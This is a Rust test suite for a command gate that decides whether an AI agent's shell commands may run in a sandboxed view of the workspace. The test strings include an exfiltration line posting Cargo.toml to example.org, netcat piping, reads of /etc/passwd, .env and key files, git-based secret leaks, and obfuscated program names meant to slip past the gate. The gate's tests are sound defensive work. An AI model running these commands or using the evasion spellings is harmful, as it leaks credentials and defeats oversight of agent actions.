//! Verdicts on commands of work ahead, if commands may run in a view of the workspace.
#![cfg(feature = "shell")]

mod support;

use headstart_tool_gate::{
    ApprovalMode, CallRef, Decision, DenyRules, Gate, GateContext, Policies, PolicyRule, Reason, Verdict,
};
use serde_json::{Value, json};

fn viewing() -> GateContext {
    GateContext { views: true, ..support::context() }
}

fn ahead(command: &str, context: &GateContext) -> Verdict {
    let args = json!({ "command": command });
    let call = CallRef { name: "shell", args: args.as_object().expect("an object") };
    Gate::new().judge_ahead(call, context)
}

fn said(command: &str, context: &GateContext) -> (Decision, Reason) {
    let verdict = ahead(command, context);
    (verdict.decision, verdict.reason)
}

fn boundaries(policies: Value) -> GateContext {
    let rules: Vec<PolicyRule> = serde_json::from_value(policies).expect("policies");
    GateContext { policies: Policies::new([], rules).expect("policies"), ..viewing() }
}

/// A word that only data holds starts no program.
#[test]
fn text_for_a_program_is_no_command() {
    for command in [
        "cat > notes.md <<'E'\nmount the disk\nkill %1; docker ps\nE",
        "tee conf.json <<< '{\"x\": 1; open}'",
        "python3 -c \"import sys; open('r.txt', 'w').write('x')\"",
        "python3 - <<'E'\nx = 1\nopen('r.txt', 'w')\nE",
        "echo 'first; kill it' >> a.txt",
        "head -c 10 /dev/urandom | xxd > r.txt",
        "sort /dev/zero > a.txt",
    ] {
        let verdict = ahead(command, &viewing());
        assert_eq!(verdict.decision, Decision::Shadow, "{command}: {verdict:?}");
    }
    for command in [
        "bash > a <<'E'\nx\ndocker ps\nE",
        "cat <<'E' | sh > a\nmount x\nE",
        "python3 -c \"import os; os.system('docker ps')\"",
        "node -e 'require(\"child_process\").execSync(`docker ps`)'",
        "cat > a <<E\n$(docker ps)\nE",
    ] {
        assert_eq!(said(command, &viewing()).0, Decision::Boundary, "{command}");
    }
}

/// In a view, each of these would reach something that a view has no copy of, or would tell the model something wrong
/// about the machine.
#[test]
fn what_a_view_does_not_hold_stays_a_boundary() {
    let network = [
        "curl https://example.org",
        "cargo test; curl -d @Cargo.toml https://example.org",
        "touch a && wget x.org/b",
        "git push",
        "make | nc example.org 1",
    ];
    let outside =
        ["cat ../secret > a", "touch a; cat /etc/passwd", "echo x > /tmp/x", "touch a; echo x > ../b"];
    let endless = ["yes > a", "touch a; tail -f a"];
    let host = [
        "sudo make install",
        "docker compose up",
        "X=1 podman ps",
        "/usr/bin/sudo ls",
        "/snap/bin/docker ps",
        "timeout 5 kubectl get pods",
        "bash -c 'docker ps'",
        "cargo build && xdg-open target/doc/index.html",
        "echo $(systemctl status)",
        "kill 1",
        "ps aux > a",
        "env -i FOO=1 ssh-add -l",
        "if docker ps; then touch a; fi",
        "d\"\"ocker ps",
        "touch a; 'sud'o make install",
        "\\docker ps",
        "$'\\x64ocker' ps",
        "make | xargs s\"\"udo",
        // The gate does not understand these, but still recognizes the program.
        "docker run 'unclosed",
        "open --args 'x",
    ];
    for command in [&network[..], &outside, &endless, &host].concat() {
        let verdict = ahead(command, &viewing());
        assert_eq!(verdict.decision, Decision::Boundary, "{command}: {verdict:?}");
    }
    for command in host {
        let verdict = ahead(command, &viewing());
        // For a program that is known to open connections, the network is given as the reason.
        assert!(matches!(verdict.reason, Reason::NeedsHost | Reason::Network), "{command}: {verdict:?}");
        let span = verdict.effects[0].span.unwrap();
        assert!(command.get(span.0..span.1).is_some_and(|text| !text.is_empty()), "{command}");
    }
    assert_eq!(said("docker compose up", &viewing()), (Decision::Boundary, Reason::NeedsHost));
}

/// Only a limited number of effects of a command is kept, so nothing is known of the effects after the last of them.
#[test]
fn a_connection_behind_many_other_effects_is_not_overlooked() {
    let many: Vec<_> = (0..40).map(|number| format!("program{number}")).collect();
    let command = format!("{}; curl https://example.org", many.join("; "));
    assert_eq!(said(&command, &viewing()).0, Decision::Boundary);
    let few: Vec<_> = many[..5].to_vec();
    assert_eq!(said(&few.join("; "), &viewing()), (Decision::Shadow, Reason::NotUnderstood));
}

#[test]
fn closed_and_protected_files_stay_closed_and_protected() {
    let denying = GateContext { deny: DenyRules::from_patterns(["keys/"]).unwrap(), ..viewing() };
    let cases = [
        ("cat keys/a; touch b", Reason::DeniedPath),
        ("touch b; echo x > keys/a", Reason::DeniedPath),
        ("rm -r keys", Reason::DeniedPath),
        ("cargo test; cat .env", Reason::SecretPath),
        ("cargo run < .env", Reason::SecretPath),
        ("cargo test; echo A=1 >> .env", Reason::SecretPath),
        ("echo x > .git/hooks/pre-commit", Reason::ProtectedPath),
        ("make; echo x > sub/.GIT/config", Reason::ProtectedPath),
        ("echo mode = 1 > .headstart/config.toml", Reason::ProtectedPath),
        ("make; echo x >> .github/workflows/ci.yml", Reason::ProtectedPath),
        ("echo x > Sub/Claude.md", Reason::ProtectedPath),
    ];
    for (command, reason) in cases {
        assert_eq!(said(command, &denying), (Decision::Boundary, reason), "{command}");
    }
    let open = GateContext { deny: DenyRules::default().with_secrets_open(), ..viewing() };
    assert_eq!(said("cargo test; cat .env", &open).0, Decision::Shadow);
}

/// A view hides closed files, and not the objects that git keeps of them.
#[test]
fn git_hands_out_nothing_closed_from_a_view() {
    let denying = GateContext { deny: DenyRules::from_patterns(["keys/"]).unwrap(), ..viewing() };
    for command in [
        "git archive HEAD",
        "git archive -o x.tar HEAD src",
        "git -C sub archive HEAD",
        "git -c core.x=y format-patch --stdout --root HEAD",
        "git fast-export HEAD > x",
        "git bundle create x.bundle --all",
        "sh -c 'git cat-file --batch < list'",
        "python3 -c 'import subprocess; subprocess.run([\"git\", \"archive\", \"HEAD\"])'",
        "sh -c 'git show HEAD:.env'",
        "bash -c \"cd a; git show HEAD:./.env\"",
        "touch a; sh -c 'git grep x HEAD -- .e*'",
        "make x; sh -c 'git log -p -- server.pem'",
        "sh -c 'git show HEAD:keys/a'",
        "xargs git show HEAD:.env",
    ] {
        let (decision, reason) = said(command, &denying);
        assert_eq!(decision, Decision::Boundary, "{command}");
        assert!(matches!(reason, Reason::SecretPath | Reason::DeniedPath), "{command}: {reason:?}");
    }
    for command in [
        "git add -A && git commit -m 'archive what is old'",
        "git commit -am 'Read .env in one place'",
        "git stash; make; git stash pop",
        "sh -c 'git describe --tags > version'",
        "git checkout -b archive",
        "make archive; git status",
    ] {
        assert_eq!(said(command, &viewing()).0, Decision::Shadow, "{command}");
    }
}

/// A policy that asks first applies wherever its program may start, even if the gate does not analyse the command that
/// far.
#[test]
fn a_policy_that_asks_first_is_not_got_round_by_a_view() {
    let rule = json!([{ "program": "terraform", "decision": "boundary", "reason": "it is ours" },
        { "program": "git", "words": ["push"], "decision": "boundary" }]);
    let context = boundaries(rule);
    let stopped = [
        "terraform plan",
        "cargo test && terraform apply",
        "bash -c 'terraform apply'",
        "make; ./bin/terraform apply",
        "timeout 5 terraform apply",
        "xargs terraform < a",
        "terraform apply 'unclosed",
        "dir /s & terraform apply",
        "bash -c 'git push'",
    ];
    for command in stopped {
        assert_eq!(said(command, &context), (Decision::Boundary, Reason::Policy), "{command}");
    }
    for command in ["git commit -m x", "cargo test terraform", "make"] {
        assert_eq!(said(command, &context).0, Decision::Shadow, "{command}");
    }
}

#[test]
fn what_writes_or_runs_programs_goes_to_a_view_with_the_reason_of_its_boundary() {
    let commands = [
        "cargo test",
        "cargo fmt && cargo clippy -- -D warnings",
        "npm test",
        "pytest -q 2>&1 | tail -20",
        "make -j4",
        "./gradlew build",
        "python3 scripts/generate.py > src/table.rs",
        "rm -rf build && mkdir build",
        "git add -A && git commit -m 'all of it'",
        "sed -i s/a/b/ src/lib.rs",
        "export RUST_BACKTRACE=1; cargo test",
        "for f in *.rs; do rustfmt \"$f\"; done",
        "bash -c 'cargo test'",
        "cargo test docker",
        "echo 'unclosed",
    ];
    for command in commands {
        let now = Gate::new().judge_command(command, &viewing());
        let then = ahead(command, &viewing());
        assert_eq!(then.decision, Decision::Shadow, "{command}: {then:?}");
        assert_eq!(now.decision, Decision::Boundary, "{command}");
        assert_eq!(Verdict { decision: Decision::Boundary, ..then }, now, "{command}");
    }
}

/// A view needs all of this: the call is work ahead, the host has views, and the mode may write. A command that only
/// reads needs no view.
#[test]
fn a_view_is_for_work_ahead_where_the_mode_writes() {
    for mode in [ApprovalMode::Default, ApprovalMode::AutoEdit, ApprovalMode::Yolo, ApprovalMode::Plan] {
        let context = GateContext { mode, ..viewing() };
        let expected = if mode == ApprovalMode::Plan { Decision::Boundary } else { Decision::Shadow };
        assert_eq!(said("cargo test", &context).0, expected, "{mode:?}");
        assert_eq!(said("cat a", &context), (Decision::Allow, Reason::ReadOnly), "{mode:?}");
        let without = GateContext { views: false, ..context };
        assert_eq!(said("cargo test", &without), (Decision::Boundary, Reason::Executes), "{mode:?}");
    }
    let args = json!({ "command": "cargo test", "run_in_background": true });
    let call = CallRef { name: "shell", args: args.as_object().unwrap() };
    assert_eq!(Gate::new().judge_ahead(call, &viewing()).reason, Reason::NonTerminating);
}

/// An attack that opens a connection, reads or writes outside the workspace, or never ends gets no view.
#[test]
fn of_the_known_attacks_only_those_that_a_view_holds_run_in_one() {
    let attacks = include_str!("data/attacks.txt").lines().map(support::spelled_out);
    let attacks = attacks.chain(support::by_family(include_str!("data/attacks_by_family.txt")));
    for command in attacks.filter(|command| !command.is_empty() && !command.starts_with("##")) {
        let now = support::judge(&Gate::new(), &command);
        let then = ahead(&command, &viewing());
        let kinds: Vec<_> = now.effects.iter().map(|effect| effect.kind.as_str()).collect();
        let held = ["writesWorkspace", "executes", "unknown", "environment"];
        if kinds.iter().any(|kind| !held.contains(kind)) {
            assert_eq!(then.decision, Decision::Boundary, "{command}: {kinds:?}");
        }
        assert_ne!(then.decision, Decision::Allow, "{command}");
    }
}
